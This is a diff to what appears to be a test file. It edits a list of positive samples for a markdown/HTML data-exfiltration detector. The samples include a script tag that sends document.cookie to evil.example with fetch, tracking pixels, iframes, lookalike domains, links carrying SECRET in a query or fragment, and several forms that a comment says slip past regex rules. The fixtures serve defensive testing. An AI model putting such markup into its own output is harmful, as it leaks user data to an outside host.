@@ -186,14 +186,15 @@ const EXFIL_POSITIVES = [
   '<img src="https://evil.example/pixel.gif?u=1">',
   '<script>fetch("https://evil.example/"+document.cookie)</script>',
   '<iframe src="https://evil.example"></iframe>',
-  '<a href="https://evil.example/login">Sign in</a>',
+  // a link outside the allowlist is a channel when it can carry data (exfiltration.ts): a query, a fragment
+  '<a href="https://evil.example/login?next=SECRET">Sign in</a>',
   '[ref]: https://evil.example/track?d=abc',
   '![logo][ref]\n\n[ref]: https://evil.example/logo.png',
   '<https://evil.example/steal?x=1>',
   '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
   '<div onmouseover="steal()">hover</div>',
   '![a](<https://evil.example/a b.png>)',
-  '[docs](https://docs.example.com.evil.example/x)',
+  '[docs](https://docs.example.com.evil.example/x#SECRET)',
   // the four forms the regex rules let through (issue 10), and a bare URL
   `![${'a'.repeat(600)}](https://evil.example/long-alt)`,
   `![a](https://evil.example/${'q'.repeat(1200)})`,
